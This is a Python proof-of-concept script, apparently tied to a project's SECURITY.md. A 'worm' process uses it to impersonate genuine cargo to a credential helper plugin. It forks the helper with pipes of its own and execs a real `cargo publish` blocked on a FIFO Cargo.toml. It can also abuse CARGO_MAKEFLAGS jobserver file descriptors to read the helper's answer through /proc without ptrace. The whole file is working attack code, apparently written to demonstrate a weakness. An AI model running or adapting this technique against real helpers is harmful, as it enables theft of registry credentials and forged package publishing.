"""A worm borrows cargo's identity (SECURITY.md, "Cargo's identity, borrowed").

It forks the helper with pipes of its own, hands the other ends to a sibling that speaks
the protocol, and then exec's a genuine `cargo publish` that blocks on a FIFO Cargo.toml in
a directory holding a .crate that matches the forged checksum. The helper's parent is then
a genuine cargo, in the right directory, with the right command line.

usage: borrow_cargo.py HELPER CARGO PROJECT_DIR REQUEST_LINE MODE
MODE=close: the sibling alone holds the worm's pipe ends.
MODE=keep: the genuine cargo also inherits the worm's pipe ends (no close-on-exec).
MODE=jobserver: no sibling. The request is written into the helper's stdin pipe first, and
the worm's ends are named in CARGO_MAKEFLAGS, so the genuine cargo's jobserver client marks
them close-on-exec itself: cargo alone holds them. The helper starts once cargo has done so;
a reader then takes the answer out of cargo's end through /proc/CARGO/fd/N, which needs no
ptrace.
The sibling (or the reader) prints the helper's answer on its stdout.
"""
import os, sys, time

helper, cargo, project, request, keep = sys.argv[1:6]
to_helper_r, to_helper_w = os.pipe()
from_helper_r, from_helper_w = os.pipe()

if keep == "jobserver":
    os.write(to_helper_w, (request + "\n").encode())
    worm = os.getpid()
    pipes = {f"pipe:[{os.fstat(fd).st_ino}]" for fd in (to_helper_w, from_helper_r)}

    def cargo_holds_them():
        try:
            if os.path.basename(os.readlink(f"/proc/{worm}/exe")) != "cargo":
                return False
            n = 0
            for fd in os.listdir(f"/proc/{worm}/fd"):
                if os.readlink(f"/proc/{worm}/fd/{fd}") in pipes:
                    info = open(f"/proc/{worm}/fdinfo/{fd}").read()
                    flags = int(info.split("flags:")[1].split()[0], 8)
                    n += bool(flags & 0o2000000)
            return n == 2
        except OSError:
            return False

    helper_pid = os.fork()
    if helper_pid == 0:
        while not cargo_holds_them():
            time.sleep(0.02)
        os.dup2(to_helper_r, 0)
        os.dup2(from_helper_w, 1)
        for fd in (to_helper_r, to_helper_w, from_helper_r, from_helper_w):
            os.close(fd)
        os.execv(helper, [helper, "--cargo-plugin"])
    if os.fork() == 0:
        for fd in (to_helper_r, to_helper_w, from_helper_r, from_helper_w):
            os.close(fd)
        while not cargo_holds_them():
            time.sleep(0.02)
        # The helper is done once it is a zombie of cargo's, which never reaps it.
        while True:
            try:
                stat = open(f"/proc/{helper_pid}/stat").read()
                if stat[stat.rfind(")") + 2] in "ZX":
                    break
            except OSError:
                break
            time.sleep(0.05)
        data = b""
        for fd in os.listdir(f"/proc/{worm}/fd"):
            try:
                target = os.readlink(f"/proc/{worm}/fd/{fd}")
            except OSError:
                continue
            if target in pipes:
                try:
                    f = os.open(f"/proc/{worm}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
                    data += os.read(f, 65536)
                except OSError:
                    pass
        lines = [l for l in data.decode(errors="replace").splitlines() if l.strip()]
        sys.stdout.write((lines[-1] if lines else "nothing read") + "\n")
        sys.stdout.flush()
        os._exit(0)
    os.dup2(to_helper_w, 100)
    os.dup2(from_helper_r, 101)
    for fd in (to_helper_r, to_helper_w, from_helper_r, from_helper_w):
        os.close(fd)
    os.chdir(project)
    env = dict(os.environ)
    env["CARGO_MAKEFLAGS"] = "-j --jobserver-fds=101,100 --jobserver-auth=101,100"
    os.execve(
        cargo,
        [cargo, "publish", "--registry", "local", "--no-verify", "--allow-dirty"],
        env,
    )

helper_pid = os.fork()
if helper_pid == 0:
    os.dup2(to_helper_r, 0)
    os.dup2(from_helper_w, 1)
    for fd in (to_helper_r, to_helper_w, from_helper_r, from_helper_w):
        os.close(fd)
    os.execv(helper, [helper, "--cargo-plugin"])

sibling = os.fork()
if sibling == 0:
    os.close(to_helper_r)
    os.close(from_helper_w)
    out = os.fdopen(from_helper_r, "r")
    out.readline()  # hello
    os.write(to_helper_w, (request + "\n").encode())
    answer = out.readline()
    sys.stdout.write(answer)
    sys.stdout.flush()
    os._exit(0)

os.close(to_helper_r)
os.close(from_helper_w)
if keep == "keep":
    os.set_inheritable(to_helper_w, True)
    os.set_inheritable(from_helper_r, True)
else:
    os.close(to_helper_w)
    os.close(from_helper_r)
os.chdir(project)
os.execv(cargo, [cargo, "publish", "--registry", "local", "--no-verify", "--allow-dirty"])
